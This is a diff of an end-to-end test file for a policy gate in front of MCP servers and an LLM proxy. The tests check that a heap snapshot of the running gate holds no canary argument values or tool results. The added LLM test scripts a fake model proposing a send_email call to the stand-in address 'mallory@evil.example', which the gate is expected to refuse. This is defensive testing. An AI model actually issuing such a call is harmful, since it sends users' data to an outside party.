@@ -1,10 +1,12 @@
-// A running gate holds no argument value or tool result past its call. The real binary, both
-// doors (stdio, and HTTP with its sessions), in front of the real server-everything, driven by
+// A running gate holds no argument value or tool result past its call. The real binary, its
+// MCP doors (stdio, and HTTP with its sessions) in front of the real server-everything, driven by
 // the SDK client: after echo calls whose message a
 // policy reads (one of them refused by it, one asked twice so Cedar's answer is reused) and whose
 // results carry the message back, the gate writes a heap snapshot on SIGUSR2 (Node's
 // --heapsnapshot-signal: what an attacker on the host gets from a heap dump) and no canary is in
-// it. A heap snapshot holds the process's strings, not the bytes of its buffers.
+// it. The LLM door likewise, after turns of the official OpenAI SDK whose proposed calls carry
+// canaries (one refused) and whose next request sends a canary back as a tool result. A heap
+// snapshot holds the process's strings, not the bytes of its buffers.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
@@ -15,6 +17,9 @@ import { McpError } from '@modelcontextprotocol/sdk/types.js';
 import { EVERYTHING, makeHome, tempDir, writeFiles } from '../helpers/cli.js';
 import { startGate } from '../helpers/gate.js';
 import { httpClient, spawnDoor } from '../helpers/http-gate.js';
+import { startFakeModel } from '../helpers/fake-model.js';
+import { llmSetup, openaiAgent } from '../helpers/llm-gate.js';
+import { openaiTurn } from '../helpers/llm-agent.js';
 
 const MANIFEST = `version: 1
 release: heap-canary@1
@@ -48,7 +53,7 @@ async function snapshotOf(pid: number, dir: string): Promise<string> {
 /** The calls, then the snapshot of the gate's process `pid` (its dumps going to `dumps`). */
 async function callsThenSnapshot(client: Client, pid: number, dumps: string): Promise<void> {
   const tag = randomUUID().replaceAll('-', '');
-  const canary = (i: number) => ['canary', tag, String(i)].join('-'); // the test keeps no whole one
+  const canary = (i: number) => ['canary', tag, String(i)].join('-');
   const texts: string[] = [];
   for (const i of [0, 1, 1, 2]) {
     const r = await client.callTool({ name: 'echo', arguments: { message: canary(i) } });
@@ -91,5 +96,39 @@ test('http: after its calls, the running gate binary holds none of their argumen
   } finally {
     await client.close();
     await g.stop();
+  }
+});
+
+test('llm: after its turns, the running gate binary holds none of the proposed calls\' arguments or the results sent back', { timeout: 180_000 }, async () => {
+  const fake = await startFakeModel();
+  const s = llmSetup();
+  const dumps = tempDir();
+  const args = ['--home', s.home, '--manifest', s.manifest, '--policy', s.policy, '--context', s.context, '--upstream-url', fake.url, '--listen', '127.0.0.1:0'];
+  const g = await spawnDoor('llm-proxy', args, {}, SNAPSHOT_ON_SIGNAL(dumps));
+  try {
+    const tag = randomUUID().replaceAll('-', '');
+    const canary = (what: string) => ['canary', tag, what].join('-');
+    const names: string[] = [];
+    for (const stream of [false, true]) {
+      const script = { text: 'On it.', calls: [{ name: 'get_weather', arguments: { city: canary('city') } }, { name: 'send_email', arguments: { to: 'mallory@evil.example', body: canary('body') } }] };
+      const t = await openaiTurn(openaiAgent(g.url), script, stream);
+      names.push(...t.calls.map((c) => (JSON.stringify(c.args).includes(tag) ? `${c.name} with its canary` : c.name)), t.text.includes('cloakpipe refused send_email') ? 'refused' : t.text);
+      const history = [
+        { role: 'user', content: '{}' },
+        { role: 'assistant', content: null, tool_calls: [{ id: t.calls[0].id, type: 'function', function: { name: 'get_weather', arguments: JSON.stringify(t.calls[0].args) } }] },
+        { role: 'tool', tool_call_id: t.calls[0].id, content: `sunny, ${canary('result')}` },
+      ];
+      await openaiTurn(openaiAgent(g.url), { text: 'noted' }, stream, { messages: history });
+    }
+    // Positive control: the values went through the gate, both ways.
+    assert.deepEqual(names, ['get_weather with its canary', 'refused', 'get_weather with its canary', 'refused']);
+    assert.ok(fake.seen.some((r) => JSON.stringify(r.body).includes(canary('result'))), 'the model got the result');
+    await new Promise((r) => setTimeout(r, 100));
+    const heap = await snapshotOf(g.child.pid!, dumps);
+    assert.ok(heap.includes('llm-e2e@1'), 'the snapshot is of the gate and holds its manifest');
+    assert.equal(heap.includes(tag), false, 'the gate still holds an argument value or a result');
+  } finally {
+    await g.stop();
+    await fake.close();
   }
 });
